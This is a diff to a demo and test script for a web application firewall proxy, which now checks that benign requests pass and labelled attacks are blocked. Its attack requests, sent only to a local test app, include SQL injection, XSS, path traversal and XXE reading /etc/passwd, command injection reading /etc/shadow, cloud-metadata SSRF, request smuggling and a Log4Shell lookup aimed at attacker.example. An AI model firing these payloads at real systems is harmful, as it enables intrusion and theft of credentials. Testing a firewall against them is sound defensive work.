@@ -71,27 +71,36 @@ curl -fs "http://127.0.0.1:$ADMIN_PORT/readyz" >/dev/null || {
 }
 
 echo "== palisade-proxy (mode $MODE, built-in rules) on 127.0.0.1:$PORT in front of 127.0.0.1:$APP_PORT"
+FAILED=0
+# send EXPECTED WHAT CURL-ARGS...: EXPECTED is "benign" or "attack".
 send() {
-    local what="$1"
-    shift
-    local code
+    local kind="$1" what="$2"
+    shift 2
+    local code want=200
+    [ "$kind" = attack ] && [ "$MODE" = block ] && want="4xx"
     code="$(curl -s -o /dev/null -w '%{http_code}' "$@")"
-    printf '  %-44s -> %s\n' "$what" "$code"
+    local ok=yes
+    case "$want" in
+        200) [ "$code" = 200 ] || ok=no ;;
+        4xx) [[ "$code" =~ ^4 ]] || ok=no ;;
+    esac
+    [ "$ok" = yes ] || FAILED=$((FAILED + 1))
+    printf '  %-44s -> %s%s\n' "$what" "$code" "$([ "$ok" = yes ] || echo "   (expected $want)")"
 }
 URL="http://127.0.0.1:$PORT"
 echo "-- benign"
-send "GET /products?id=42&sort=price" "$URL/products?id=42&sort=price"
-send "POST form (a comment with an apostrophe)" --data-urlencode "comment=It's great, isn't it?" "$URL/comments"
-send "POST JSON order" -H 'Content-Type: application/json' --data '{"order":{"sku":"A-1","qty":2,"note":"ring twice"}}' "$URL/orders"
+send benign "GET /products?id=42&sort=price" "$URL/products?id=42&sort=price"
+send benign "POST form (a comment with an apostrophe)" --data-urlencode "comment=It's great, isn't it?" "$URL/comments"
+send benign "POST JSON order" -H 'Content-Type: application/json' --data '{"order":{"sku":"A-1","qty":2,"note":"ring twice"}}' "$URL/orders"
 echo "-- attacks"
-send "SQL injection in the query" "$URL/products?id=1%27%20UNION%20SELECT%20password%20FROM%20users--"
-send "XSS in a cookie" -H 'Cookie: theme=<script>alert(document.cookie)</script>' "$URL/"
-send "path traversal" --path-as-is "$URL/static/../../../../etc/passwd"
-send "Log4Shell in a header" -H 'X-Api-Version: ${jndi:ldap://attacker.example/a}' "$URL/"
-send "command injection in JSON" -H 'Content-Type: application/json' --data '{"host":"8.8.8.8; cat /etc/shadow"}' "$URL/ping"
-send "SSRF to cloud metadata (form)" --data 'url=http://169.254.169.254/latest/meta-data/' "$URL/fetch"
-send "XXE in an XML body" -H 'Content-Type: application/xml' --data '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>' "$URL/import"
-send "request smuggling (CL + TE)" -H 'Transfer-Encoding: chunked' -H 'Content-Length: 4' --data-binary $'0\r\n\r\n' "$URL/"
+send attack "SQL injection in the query" "$URL/products?id=1%27%20UNION%20SELECT%20password%20FROM%20users--"
+send attack "XSS in a cookie" -H 'Cookie: theme=<script>alert(document.cookie)</script>' "$URL/"
+send attack "path traversal" --path-as-is "$URL/static/../../../../etc/passwd"
+send attack "Log4Shell in a header" -H 'X-Api-Version: ${jndi:ldap://attacker.example/a}' "$URL/"
+send attack "command injection in JSON" -H 'Content-Type: application/json' --data '{"host":"8.8.8.8; cat /etc/shadow"}' "$URL/ping"
+send attack "SSRF to cloud metadata (form)" --data 'url=http://169.254.169.254/latest/meta-data/' "$URL/fetch"
+send attack "XXE in an XML body" -H 'Content-Type: application/xml' --data '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>' "$URL/import"
+send attack "request smuggling (CL + TE)" -H 'Transfer-Encoding: chunked' -H 'Content-Length: 4' --data-binary $'0\r\n\r\n' "$URL/"
 
 sleep 0.3
 echo "== what the application received"
@@ -111,3 +120,7 @@ else
 fi
 echo "== metrics (excerpt of http://127.0.0.1:$ADMIN_PORT/metrics)"
 curl -fs "http://127.0.0.1:$ADMIN_PORT/metrics" | grep -E '^palisade_(requests_total|protocol_rejections_total|ruleset_info)' | sed 's/^/  /' || true
+if [ "$FAILED" -ne 0 ]; then
+    echo "demo: $FAILED request(s) did not get the expected answer" >&2
+    exit 1
+fi
